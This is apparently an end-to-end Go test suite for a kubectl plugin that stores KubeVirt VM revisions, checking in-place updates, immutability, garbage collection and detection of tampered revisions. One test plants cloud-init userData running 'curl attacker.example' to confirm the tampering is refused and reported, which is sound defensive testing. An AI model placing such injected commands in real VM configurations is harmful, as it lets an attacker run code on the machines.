//go:build e2e

package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"

	"github.com/kubectl-vmctl/kubectl-vmctl/internal/contract"
	"github.com/kubectl-vmctl/kubectl-vmctl/internal/derive"
	"github.com/kubectl-vmctl/kubectl-vmctl/internal/revision"
	"github.com/kubectl-vmctl/kubectl-vmctl/internal/scaffold"
)

// TestRevisionStoreChangesInPlace holds the VMRevisionStore CRD to the real
// API server: rollout restart adds a revision to the store in place, the
// API server refuses a change to a revision the store retains, and gc
// prunes the revision no template names any more with one update.
func TestRevisionStoreChangesInPlace(t *testing.T) {
	ns := namespace(t)
	createPrototype(t, ns, "testvm.yaml")
	deploy(t, ns, scaffold.KindDeployment, "testvm", "--replicas", "1")
	workload := "deployment/vmctl-testvm"
	// The old template goes as soon as the rollout is done.
	kubectl(t, nil, "patch", "-n", ns, workload, "--type", "merge", "-p", `{"spec":{"revisionHistoryLimit":0}}`)
	waitPaired(t, ns, "testvm", 1, settle)
	vmctl(t, "rollout", "status", "testvm", "-n", ns, "--timeout", "1m")
	old := podTemplateAnnotations(t, ns, workload)[contract.AnnotationVMRevision]
	stores := e.dyn.Resource(revision.StoreGVR).Namespace(ns)
	name := revision.StoreName("vmctl-testvm")
	before, err := stores.Get(t.Context(), name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}

	changePrototype(t, ns)
	vmctl(t, "rollout", "restart", "testvm", "-n", ns)
	now := podTemplateAnnotations(t, ns, workload)[contract.AnnotationVMRevision]
	if now == old {
		t.Fatalf("rollout restart left the template at revision %s", old)
	}
	after, err := stores.Get(t.Context(), name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if after.GetUID() != before.GetUID() {
		t.Errorf("rollout restart made the store again (uid %s, was %s); want it patched in place", after.GetUID(), before.GetUID())
	}
	if got := hashes(t, after); !slices.Equal(got, sorted(old, now)) {
		t.Errorf("the store holds %v after the restart, want %s and %s", got, old, now)
	}

	// A retained revision never changes, not even one field of its spec.
	patch := fmt.Sprintf(`{"spec":{"revisions":{%q:{"spec":{"template":{"spec":{"hostname":"changed"}}}}}}}`, old)
	changed, err := stores.Patch(t.Context(), name, types.MergePatchType, []byte(patch), metav1.PatchOptions{})
	if !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), "never changes") {
		b, _ := json.Marshal(after.Object)
		c, _ := json.Marshal(changed)
		t.Errorf("a change of retained revision %s: %v, want the CRD's rule to refuse it; before:\n%s\nafter:\n%s", old, err, b, c)
	}

	vmctl(t, "rollout", "status", "testvm", "-n", ns, "--timeout", "3m")
	// gc prunes the old revision once no ReplicaSet or Pod names it.
	eventually(t, time.Minute, "gc to prune VM revision "+old, func(ctx context.Context) (bool, string, error) {
		out, stderr, code := vmctlCode(t, "gc", "-n", ns, "--min-age=0s")
		cur, err := stores.Get(ctx, name, metav1.GetOptions{})
		if err != nil {
			return false, "", err
		}
		got := hashes(t, cur)
		return slices.Equal(got, []string{now}), fmt.Sprintf("gc exit %d, printed %q %q; the store holds %v", code, out, stderr, got), nil
	})
	waitPaired(t, ns, "testvm", 1, settle)

	// Kubernetes' edit role reaches the stores, as it reaches the built-in
	// kinds, through scaffold's aggregated ClusterRoles.
	kubectl(t, nil, "create", "rolebinding", "alice-edits", "-n", ns, "--clusterrole=edit", "--user=alice")
	eventually(t, 30*time.Second, "edit to patch revision stores", func(context.Context) (bool, string, error) {
		out, stderr, _ := runCode(t, nil, "kubectl", "auth", "can-i", "patch", "vmrevisionstores.vmctl.kubevirt.io", "-n", ns, "--as=alice")
		return strings.TrimSpace(out) == "yes", out + stderr, nil
	})
}

// hashes are the revisions' hashes the store u holds, sorted.
func hashes(t *testing.T, u interface{ UnstructuredContent() map[string]any }) []string {
	t.Helper()
	revs, _ := u.UnstructuredContent()["spec"].(map[string]any)["revisions"].(map[string]any)
	var out []string
	for h := range revs {
		out = append(out, h)
	}
	slices.Sort(out)
	return out
}

func sorted(a, b string) []string {
	if a > b {
		a, b = b, a
	}
	return []string{a, b}
}

// TestRewrittenRevision: someone who may edit the namespace's stores (the
// edit role) prunes the revision a fleet pins and, in a second request,
// adds it again under its hash with other userData, which the store's
// rule does not refuse. The next Pod's agent makes no VM of it and says
// why (VMRevisionRewritten); status names it on every Pod that pins it;
// diff names it and exits 1; rollout restart writes the revision anew and
// replaces the Pods, which then get their VMs, of the revision as its hash
// says.
func TestRewrittenRevision(t *testing.T) {
	ns := namespace(t)
	createPrototype(t, ns, "testvm.yaml")
	deploy(t, ns, scaffold.KindDeployment, "testvm", "--replicas", "1")
	workload := "deployment/vmctl-testvm"
	waitPaired(t, ns, "testvm", 1, settle)
	pin := podTemplateAnnotations(t, ns, workload)[contract.AnnotationVMRevision]
	stores := e.dyn.Resource(revision.StoreGVR).Namespace(ns)
	name := revision.StoreName("vmctl-testvm")
	cur, err := stores.Get(t.Context(), name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	rev, _, _ := unstructured.NestedMap(cur.Object, "spec", "revisions", pin)
	volumes, _, _ := unstructured.NestedSlice(rev, "spec", "template", "spec", "volumes")
	for _, v := range volumes {
		if ci, ok := v.(map[string]any)["cloudInitNoCloud"].(map[string]any); ok {
			ci["userData"] = "#cloud-config\nruncmd: [curl attacker.example]\n"
		}
	}
	if err := unstructured.SetNestedSlice(rev, volumes, "spec", "template", "spec", "volumes"); err != nil {
		t.Fatal(err)
	}
	for _, patch := range []map[string]any{
		{"spec": map[string]any{"revisions": map[string]any{pin: nil}}},
		{"spec": map[string]any{"revisions": map[string]any{pin: rev}}},
	} {
		b, err := json.Marshal(patch)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := stores.Patch(t.Context(), name, types.MergePatchType, b, metav1.PatchOptions{}); err != nil {
			t.Fatalf("the store's rule refused %s: %v", b, err)
		}
	}

	kubectl(t, nil, "scale", "-n", ns, workload, "--replicas=2")
	var refused corev1.Pod
	eventually(t, settle, "the new agent refuses the rewritten revision", func(ctx context.Context) (bool, string, error) {
		pods, err := agentPods(ctx, ns)
		if err != nil {
			return false, "", err
		}
		for _, p := range pods {
			ok, _, err := hasWarningEvent(ctx, ns, p.Name, func(msg string) bool {
				return strings.HasPrefix(msg, "VM revision rewritten: VM revision "+pin)
			})
			if ok || err != nil {
				refused = p
				return ok, "", err
			}
		}
		return false, fmt.Sprintf("no such Event of %d Pods", len(pods)), nil
	})
	vms, err := derivedVMs(t.Context(), ns)
	if err != nil {
		t.Fatal(err)
	}
	if vm, ok := vms[derive.Name("testvm", refused.Name, refused.UID)]; ok {
		t.Fatalf("the agent made VM %s of the rewritten revision", vm.Name)
	}
	rows := statusRows(t, ns)
	if len(rows) != 2 {
		t.Fatalf("status shows %d rows, want 2: %+v", len(rows), rows)
	}
	for _, r := range rows {
		if len(r.Problems) != 1 || !strings.HasPrefix(r.Problems[0], "VM revision rewritten: "+pin) {
			t.Errorf("status: Pod %s has problems %q, want the rewritten revision named", r.Pod, r.Problems)
		}
	}
	out, _, code := vmctlCode(t, "diff", "-n", ns)
	if code != 1 || !strings.Contains(out, "pins VM revision "+pin+", which VMRevisionStore "+ns+"/"+name+" holds rewritten") {
		t.Errorf("diff: exit %d, stdout:\n%s\nwant the rewritten revision named, exit 1", code, out)
	}

	out, stderr, code := vmctlCode(t, "rollout", "restart", "testvm", "-n", ns)
	if code != 0 || !strings.Contains(stderr, "rewritten") || !strings.Contains(out, "deployment.apps/vmctl-testvm restarted") {
		t.Fatalf("rollout restart: exit %d, stdout:\n%s\nstderr:\n%s", code, out, stderr)
	}
	vmctl(t, "rollout", "status", "testvm", "-n", ns, "--timeout", "3m")
	after, err := stores.Get(t.Context(), name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	s, err := revision.FromObject(after)
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Verify(pin); err != nil || s.Revisions[pin] == nil {
		t.Errorf("after the restart the store holds %v: %v", s.Hashes(), err)
	}
	for _, r := range statusRows(t, ns) {
		if len(r.Problems) > 0 {
			t.Errorf("status after the restart: %s/%s has problems %q", r.Pod, r.VM, r.Problems)
		}
	}
}
